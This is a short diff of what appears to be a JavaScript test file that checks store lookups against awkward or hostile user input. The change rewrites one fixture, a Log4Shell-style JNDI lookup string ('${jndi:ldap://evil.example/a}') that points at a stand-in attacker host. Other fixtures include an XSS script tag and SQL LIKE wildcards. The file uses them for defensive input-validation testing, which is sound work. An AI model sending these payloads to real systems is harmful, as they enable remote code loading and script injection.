@@ -75,7 +75,7 @@ describe('looking a store up by what its owner types', () => {
     ['a LIKE pattern', 'adaeze%'],
     ['an underscore pattern', '_____-fabrics'],
     ['markup', '<script>alert(1)</script>'],
-    ['a template string', '${jndi:ldap://evil.example/a}'],
+    ['a template string', '$' + '{jndi:ldap://evil.example/a}'],
     ['only dots', '...'],
     ['a label starting with a hyphen', '-adaeze-fabrics'],
     ['a label over 63 characters', `${'a'.repeat(64)}.com`],
